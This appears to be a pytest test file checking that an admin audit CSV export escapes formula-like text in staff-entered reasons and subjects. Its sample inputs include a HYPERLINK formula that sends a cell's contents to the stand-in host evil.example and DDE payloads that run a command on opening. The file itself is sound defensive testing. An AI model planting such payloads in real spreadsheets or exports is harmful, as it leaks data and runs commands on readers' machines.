"""CSV exports: staff-written text never reaches a spreadsheet as a formula."""

import csv
import io

import pytest

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def audit_rows(client) -> list[dict]:
    response = client.get("/admin/audit.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("reason", FORMULAS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_audit_csv_neutralises_a_formula_in_a_reason(client, auth, people, reason):
    auth.login("head")
    client.post(
        f"/admin/accounts/{people.student.id}/delete", data={"confirm": "sam", "reason": reason}
    )
    (deleted,) = [row for row in audit_rows(client) if row["action"] == "delete_account"]
    assert deleted["why"] == "'" + reason  # shown as the text it is
    assert deleted["subject"].startswith("student sam")  # other cells are left as they are


def test_audit_csv_neutralises_a_formula_in_a_subject(client, auth, people):
    auth.login("ms.lee")
    client.post("/mod/watched-words", data={"pattern": "=1+2", "action": "flag"})
    auth.logout()
    auth.login("head")
    (added,) = [row for row in audit_rows(client) if row["action"] == "add_watched_word"]
    assert added["subject"] == "'=1+2 (flag)"
    assert added["who"] == "ms.lee" and not added["id"].startswith("'")
